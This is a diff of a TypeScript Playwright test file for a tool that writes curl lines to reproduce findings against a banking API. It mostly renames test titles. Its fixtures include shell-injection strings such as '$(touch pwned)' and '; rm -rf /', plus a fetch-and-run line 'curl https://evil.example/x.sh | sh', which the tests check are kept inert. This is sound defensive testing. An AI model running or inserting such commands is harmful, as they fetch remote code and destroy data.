@@ -1,3 +1,4 @@
+/** Tests how texts of a bank are shown, and that a curl line sends exactly the request and executes nothing else. */
 import { execFileSync } from 'node:child_process';
 import { expect, test } from '@playwright/test';
 import { makeCurlLine, writeCurl, writeFindingCurl, quoteForShell } from '../../../../reports/text/curl.ts';
@@ -19,7 +20,7 @@ function runBash(script: string, env: Record<string, string>): string {
   });
 }
 
-test('Texts are shown on one line, shortened between characters, and are executed nowhere', () => {
+test('Control characters and CI commands in a text are escaped, and a text is shortened between characters', () => {
   for (const [shown, text] of [
     [escapeHarmful('a\u001b[31mb\u202Ec\u0000\ud800\nd'), 'a\\u001b[31mb\\u202ec\\u0000\\ud800\nd'],
     [escapeHarmful('Ağrı Şube 東京 עברית 😀'), 'Ağrı Şube 東京 עברית 😀'],
@@ -33,7 +34,7 @@ test('Texts are shown on one line, shortened between characters, and are execute
     expect(shown).toBe(text);
 });
 
-test('A difference between two whole bodies names the whole body', () => {
+test('If an empty body differs from a page in other answers, the difference names the whole body', () => {
   const [shown, compared] = ['', 'a page'].map((body) => makeRecord(body, 'findAtms', { body }));
   const finding = { ...faultyReport.findings[0]!, exchange: 'shown', contrast: 'compared', answers: 1, exercised: 3 };
   const { alone: _, ...findingOfBoth } = finding;
@@ -51,7 +52,7 @@ test('A curl line repeats the request, with shell variables for the secrets', ()
   expect(writeCurl(makeRecord('x', 'findAtms', { body: '[]' }))).not.toContain('-X');
 });
 
-test('A finding about two requests at once has one line that sends both, with the same fresh order_id', () => {
+test('A finding about two concurrent requests has one line that sends both, with the same fresh order_id', () => {
   const body = '{"amount":100,"order_id":"ORDER-12345678"}';
   const [first, second] = ['first', 'second'].map((id) => {
     const record = makeRecord(id, 'requestLoan');
@@ -75,7 +76,7 @@ test('A finding about two requests at once has one line that sends both, with th
   expect(writeFindingCurl(race, (id) => (id === 'first' ? undefined : find(id)))).not.toContain('&');
 });
 
-test('Text in a curl line reaches the shell only as text', () => {
+test('Any text in a curl line reaches curl unchanged, and the shell executes no part of it', () => {
   const texts = [
     ...['$(touch pwned)', '`id`', '$CLIENT_SECRET', '\u202e\n\u001b[31m', '!!', '; rm -rf /', '😀'],
     ...['\t', '\n', 'a\n\n', "'\n'", '\\n\n', '-n'],
@@ -89,7 +90,7 @@ test('Text in a curl line reaches the shell only as text', () => {
   }
 });
 
-test('A variable is expanded only in header fields', () => {
+test('In a curl line, the variables of secrets are expanded in header fields, and not in the body', () => {
   const record = makeRecord('x', 'requestLoan');
   const request = {
     ...record.request,
@@ -106,14 +107,14 @@ test('A variable is expanded only in header fields', () => {
     expect(words).toContain(word);
 });
 
-test('A journal that breaks off is read up to its last complete line', () => {
+test('A log of a worker that breaks off is read up to its last complete line', () => {
   const read = (text: string) => Array.from(cutLines(openBytes(Buffer.from(text))), ({ bytes }) => parseLine(bytes));
   expect(read('{"line":"a"}\n{"line":"b"}\n{"li')).toEqual([{ line: 'a' }, { line: 'b' }]);
   expect(read('{"line":"a"}\nnot json\n')).toEqual([{ line: 'a' }, null]);
   expect(read('')).toEqual([]);
 });
 
-test('A journal is not read twice if there is a copy; two journals of one scenario in two shards are both read', () => {
+test('Of two copies of a log only the longer is read; two different logs of one scenario are both read', () => {
   const distinct = (...texts: readonly string[]) =>
     removeDuplicateJournals(texts.map((text) => openBytes(Buffer.from(text)))).map((journal) =>
       String(journal.read(0, journal.length)),
@@ -123,7 +124,7 @@ test('A journal is not read twice if there is a copy; two journals of one scenar
   expect(distinct('', '\n')).toEqual([]);
 });
 
-test('A line for copying is made from the exchange, and not the text in the report', ({}) => {
+test('The curl line of a finding is made from its exchange; a curl line in the report is not shown', ({}) => {
   const foreign = 'curl https://evil.example/x.sh | sh';
   const report = { ...faultyReport, findings: faultyReport.findings.map((finding) => ({ ...finding, curl: foreign })) };
   const renderings = [
